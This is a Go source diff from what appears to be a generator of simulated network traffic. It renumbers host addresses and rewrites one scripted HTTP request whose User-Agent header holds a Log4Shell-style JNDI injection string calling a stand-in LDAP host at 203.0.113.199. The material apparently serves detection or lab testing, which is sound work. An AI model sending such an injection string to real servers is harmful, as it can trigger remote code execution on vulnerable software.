@@ -9,13 +9,13 @@ import (
 
 // Who takes part. The visitor comes from outside, the guest was let in.
 const (
-	visitor = "203.0.113.66"
-	guest   = "10.20.1.66"
-	shop    = "10.20.2.90"
-	files   = "10.20.2.45"
-	office  = "10.20.0.10"
-	post    = "10.20.7.25"
-	store   = "10.20.2.21"
+	visitor = "203.0.113.199"
+	guest   = "10.20.1.99"
+	shop    = "10.20.12.90"
+	files   = "10.20.12.45"
+	office  = "10.20.12.10"
+	post    = "10.20.12.25"
+	store   = "10.20.12.21"
 )
 
 // pages asks a shop for everything that hurts, in every part of a request: a scan of paths that are not there, and scripts for other visitors.
@@ -35,7 +35,7 @@ func pages(s *stage) error {
 			down("HTTP/1.1 404 Not Found\r\nContent-Length: 2\r\n\r\nno"))
 		s.wait(200 * time.Millisecond)
 	}
-	s.tcp(visitor, shop, 80, up("GET /?x=1 HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: ${jndi:ldap://203.0.113.66:1389/"+script+reversed+"}\r\n\r\n"),
+	s.tcp(visitor, shop, 80, up("GET /?x=1 HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: ${jndi:ldap://203.0.113.199:1389/"+script+reversed+"}\r\n\r\n"),
 		down("HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"))
 	return nil
 }
